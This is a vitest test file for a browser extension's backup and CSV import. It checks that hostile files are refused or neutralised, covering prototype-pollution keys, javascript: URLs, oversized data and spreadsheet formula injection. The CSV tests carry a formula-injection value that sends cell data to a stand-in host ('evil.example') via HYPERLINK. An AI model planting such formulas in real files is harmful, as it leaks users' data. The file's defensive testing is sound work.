/**
 * Hostile backups and CSV files: a file from anywhere may be imported. Each one of the corpus in
 * tests/fixtures/hostile/backups/ (and the large ones built here) must be refused whole with a
 * reason that names the problem, or accepted with its hostile part neutralised; never half
 * written, never hanging, never reaching Object.prototype.
 *
 * Two gates are checked: the background's importData (the only one that matters for safety:
 * schema and checkBackup inside the write transaction) and the options page's pre-validation
 * (utils/page/backup-file.ts, utils/page/csv.ts), which gives the early, readable refusal.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parseBackup } from '@/utils/page/backup-file';
import { accountsFromCsv, accountsToCsv, peopleFromCsv } from '@/utils/page/csv';
import { withKeys } from '@/entrypoints/background/db';
import { SCHEMA_VERSION } from '@/utils/contract/records';
import { BACKUP_MAX_RECORDS } from '@/utils/contract/limits';
import type { Backup } from '@/utils/contract/messages';
import type { Account, Person } from '@/utils/contract/model';
import { sampleBackup } from '../fixtures/sample-data.mjs';
import { freshContext, ok, snapshot } from './helpers';

// vitest runs from the project root (happy-dom gives import.meta.url an http: scheme).
const CORPUS = path.join(process.cwd(), 'tests', 'fixtures', 'hostile', 'backups');
const read = (file: string) => fs.readFileSync(path.join(CORPUS, file), 'utf8');
const NOW = Date.UTC(2026, 10, 28, 12);

afterEach(() => {
  // A polluted prototype would leak into every later test; fail loudly and clean up.
  const proto = Object.prototype as Record<string, unknown>;
  const leaked = ['polluted', 'isAdmin'].filter((k) => k in proto);
  for (const k of leaked) delete proto[k];
  expect(leaked, 'Object.prototype was polluted').toEqual([]);
});

/** A store that already holds the sample accounts: a refused import must leave them as they are. */
async function seededStore() {
  const t = await freshContext();
  await ok(t.send('importData', { backup: sampleBackup(NOW), mode: 'replace' }));
  return t;
}

type Sent = Awaited<ReturnType<Awaited<ReturnType<typeof freshContext>>['send']>>;

/** Imports `value` as the options page would send it, and says what happened to the store. */
async function importValue(value: unknown, mode: 'merge' | 'replace' = 'replace') {
  const t = await seededStore();
  const before = await snapshot(t.db);
  const started = performance.now();
  const answer = (await t.send('importData', { backup: value, mode } as never)) as Sent;
  const ms = performance.now() - started;
  const unchanged = (await snapshot(t.db)) === before;
  return { ...t, answer, ms, unchanged };
}

function account(id: string, name = id): Account {
  return {
    id,
    name,
    domains: [],
    stage: 'tactical',
    potential: 'medium',
    profile: { goals: '', painPoints: '', opportunities: '' },
    nextAction: null,
    cadenceDays: null,
    crmRefs: [],
    createdAt: 1,
    updatedAt: 1,
    revision: 1,
  };
}

function person(id: string, accountId: string): Person {
  return {
    id,
    accountId,
    name: `Person ${id}`,
    emails: [],
    title: '',
    role: 'unknown',
    influence: 3,
    attitude: 'neutral',
    notes: '',
    lastContactAt: null,
  };
}

function backupOf(patch: Partial<Backup>): Backup {
  return {
    format: 'rapport-backup',
    schemaVersion: SCHEMA_VERSION,
    exportedAt: NOW,
    accounts: [],
    people: [],
    activities: [],
    decisions: [],
    stageChanges: [],
    objectives: [],
    buyingUnits: [],
    whitespace: [],
    ...patch,
  };
}

/** One account with `n` people: the bulk of a large CRM export. */
function bulk(n: number): Backup {
  const people = Array.from({ length: n }, (_, i) => person(`per-${i}`, 'acc-bulk'));
  return backupOf({ accounts: [account('acc-bulk', 'Bulk Co')], people });
}

describe('importData refuses a hostile backup whole, with a reason', () => {
  const REFUSED: [file: string, reason: RegExp][] = [
    ['duplicate-account-ids.json', /accounts: the id "acc-1" appears twice/],
    ['duplicate-person-ids.json', /people: the id "per-1" appears twice/],
    ['orphan-person.json', /people: "per-1" belongs to an account that is not in the backup/],
    ['future-schema.json', /newer Rapport \(schema 99\)/],
    ['javascript-urls.json', /backup\.decisions\.0\.sourceUrl: must be an https: URL/],
    ['mailto-javascript-url.json', /backup\.activities\.0\.source\.url: must be an https: URL/],
    ['wrong-types.json', /schemaVersion|accounts/],
  ];
  it.each(REFUSED)('%s', async (file, reason) => {
    const { answer, unchanged } = await importValue(JSON.parse(read(file)));
    expect(answer).toMatchObject({ ok: false });
    expect(!answer.ok && answer.code).toMatch(/^invalid$/);
    expect(!answer.ok && answer.error).toMatch(reason);
    expect(unchanged, `${file} changed the store`).toBe(true);
  });

  it('a backup cut short (a field or a whole kind missing) is refused, not half imported', async () => {
    const whole = sampleBackup(NOW);
    const { people: _people, ...noPeople } = whole;
    const cut = { ...whole, accounts: whole.accounts.map(({ revision: _r, ...a }) => a) };
    for (const value of [noPeople, cut, { format: 'rapport-backup' }, null, [], 'backup']) {
      const { answer, unchanged } = await importValue(value);
      expect(answer).toMatchObject({ ok: false, code: 'invalid' });
      expect(!answer.ok && answer.error.length).toBeGreaterThan(5);
      expect(unchanged).toBe(true);
    }
  });

  it('a string of 200 KB is refused, naming the field, not stored', async () => {
    const big = 'x'.repeat(200 * 1024);
    const b = sampleBackup(NOW);
    b.people[0]!.notes = big;
    const { answer, unchanged } = await importValue(b);
    expect(answer).toMatchObject({ ok: false, code: 'invalid' });
    expect(!answer.ok && answer.error).toMatch(/^backup\.people\.0\.notes: Too big/);
    expect(unchanged).toBe(true);
  });
});

describe('importData neutralises __proto__ and constructor keys', () => {
  it.each(['proto-keys.json', 'constructor-prototype.json'])('%s', async (file) => {
    // JSON.parse keeps "__proto__" as an own key, as extension messaging delivers it.
    const value = JSON.parse(read(file)) as Record<string, unknown>;
    const { answer, db } = await importValue(value);
    expect(answer).toMatchObject({ ok: true });
    const stored = await db.get('accounts', 'acc-1');
    expect(stored?.name).toBe('Northwind');
    expect(Object.getPrototypeOf(stored)).toBe(Object.prototype);
    // The account's own fields, plus only the index keys the store derives from them.
    expect(Object.keys(stored!).sort()).toEqual(Object.keys(withKeys(account('acc-1'))).sort());
    expect((stored as unknown as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('the options page refuses a file with a __proto__ key outright', () => {
    const r = parseBackup(read('proto-keys.json'));
    expect(r).toMatchObject({ ok: false, problem: { key: 'optionsBackupProtoKey' } });
  });
});

describe('large backups', () => {
  it('imports 100,000 records whole, in bounded time', async () => {
    const t = await seededStore();
    const started = performance.now();
    const answer = await t.send('importData', { backup: bulk(100_000), mode: 'replace' });
    const ms = performance.now() - started;
    expect(answer).toMatchObject({ ok: true, data: { counts: { people: 100_000 } } });
    expect(await t.db.count('people')).toBe(100_000);
    console.info(`importData: 100,000 records imported in ${Math.round(ms)} ms`);
    expect(ms).toBeLessThan(60_000);
  }, 120_000);

  it('refuses 100,000 records with one bad record at the very end, writing none', async () => {
    const b = bulk(100_000);
    b.people.push(person('per-0', 'acc-bulk')); // the first id again, as the last record
    const { answer, unchanged, ms, db } = await importValue(b);
    expect(answer).toMatchObject({ ok: false, code: 'invalid' });
    expect(!answer.ok && answer.error).toMatch(/people: the id "per-0" appears twice/);
    expect(unchanged).toBe(true);
    expect(await db.count('people')).toBe(sampleBackup(NOW).people.length);
    console.info(`importData: 100,001 records refused in ${Math.round(ms)} ms`);
    expect(ms).toBeLessThan(60_000);
  }, 120_000);

  it(`refuses more than ${BACKUP_MAX_RECORDS.toLocaleString('en')} records of one kind`, async () => {
    const stageChanges = Array.from({ length: BACKUP_MAX_RECORDS + 1 }, (_, i) => ({
      id: `stg-${i}`,
      accountId: 'acc-bulk',
      from: null,
      to: 'tactical' as const,
      at: 1,
      reason: '',
    }));
    const b = backupOf({ accounts: [account('acc-bulk')], stageChanges });
    const { answer, unchanged, ms } = await importValue(b);
    expect(answer).toMatchObject({ ok: false, code: 'invalid' });
    expect(!answer.ok && answer.error).toMatch(/^backup\.stageChanges: Too big/);
    expect(unchanged).toBe(true);
    expect(ms).toBeLessThan(60_000);
  }, 120_000);
});

describe('the options page checks the file first (utils/page/backup-file.ts)', () => {
  const refusal = (text: string) => {
    const r = parseBackup(text);
    if (r.ok) throw new Error('expected a refusal');
    return r.problem;
  };

  it('refuses each file of the corpus with its own reason', () => {
    expect(refusal(read('truncated.json')).key).toBe('optionsBackupTruncated');
    expect(refusal(read('duplicate-account-ids.json'))).toEqual({
      key: 'optionsBackupDuplicateId',
      subs: ['accounts', 'acc-1'],
    });
    expect(refusal(read('orphan-person.json'))).toEqual({
      key: 'optionsBackupOrphan',
      subs: ['people', 'per-1'],
    });
    expect(refusal(read('future-schema.json'))).toEqual({
      key: 'optionsBackupFromFuture',
      subs: [99, SCHEMA_VERSION],
    });
    for (const file of ['javascript-urls.json', 'mailto-javascript-url.json', 'wrong-types.json'])
      expect(refusal(read(file)).key, file).toBe('optionsBackupInvalid');
  });

  it('says "truncated" wherever a real export is cut', () => {
    const text = JSON.stringify(sampleBackup(NOW), null, 2);
    for (let at = 1; at < text.length; at += 97)
      expect(refusal(text.slice(0, at)).key, `cut at ${at}`).toBe('optionsBackupTruncated');
  });

  it('reads a 100,000-record file in bounded time, and refuses it for one bad record', () => {
    const good = JSON.stringify(bulk(100_000));
    let started = performance.now();
    const r = parseBackup(good);
    const okMs = performance.now() - started;
    expect(r.ok).toBe(true);
    const bad = bulk(100_000);
    bad.people.push(person('per-0', 'acc-bulk'));
    started = performance.now();
    expect(refusal(JSON.stringify(bad))).toEqual({
      key: 'optionsBackupDuplicateId',
      subs: ['people', 'per-0'],
    });
    console.info(
      `parseBackup: 100,000 records (${(good.length / 1e6).toFixed(1)} MB) checked in ${Math.round(okMs)} ms`,
    );
    expect(okMs + performance.now() - started).toBeLessThan(30_000);
  }, 60_000);
});

describe('CSV files with spreadsheet formulas (utils/page/csv.ts)', () => {
  const ctx = () => {
    let n = 0;
    return { accounts: [], people: [], now: NOW, newId: () => `csv-${++n}`, newAccounts: [] };
  };

  it('imports formula cells as plain text, and exports them so no spreadsheet runs them', () => {
    const imported = accountsFromCsv(read('accounts-formulas.csv'), ctx());
    expect(imported.fatal).toBeNull();
    expect(imported.invalid).toEqual([]);
    const names = imported.records.map((r) => r.record.name);
    expect(names).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Open")');
    expect(names).toContain('Plain Co');
    // Unknown columns, whatever their name, are ignored with a warning; nothing reaches a prototype.
    expect(imported.warnings.map((w) => w.subs?.[0])).toEqual(['__proto__', 'constructor']);
    for (const { record } of imported.records) {
      expect(Object.getPrototypeOf(record)).toBe(Object.prototype);
      expect(Object.keys(record)).not.toContain('__proto__');
    }

    const csv = accountsToCsv(imported.records.map((r) => r.record));
    const cells = csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .slice(1)
      .filter(Boolean)
      .flatMap((line) => line.split(','));
    // A cell a spreadsheet would run begins with = + - @ (or their full-width forms), tab or CR.
    const runnable = cells.filter((c) => /^"?[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(c));
    expect(runnable, 'exported cells that a spreadsheet would run').toEqual([]);
  });

  it('imports people with formula cells as plain text', () => {
    const accounts = accountsFromCsv(read('accounts-formulas.csv'), ctx()).records.map(
      (r) => r.record,
    );
    const people = peopleFromCsv(read('people-formulas.csv'), { ...ctx(), newAccounts: accounts });
    expect(people.fatal).toBeNull();
    expect(people.invalid).toEqual([]);
    expect(people.records.map((r) => r.record.name)).toEqual([
      '=HYPERLINK("https://evil.example","x")',
      '@Mallory',
    ]);
  });

  it('refuses a CSV file of more than 50,000 rows whole', () => {
    const rows = Array.from({ length: 50_001 }, (_, i) => `Co ${i},`);
    const r = accountsFromCsv(['name,domains', ...rows].join('\n'), ctx());
    expect(r.fatal).toEqual({ key: 'csvTooManyRows', subs: [50_000] });
    expect(r.records).toEqual([]);
  });
});
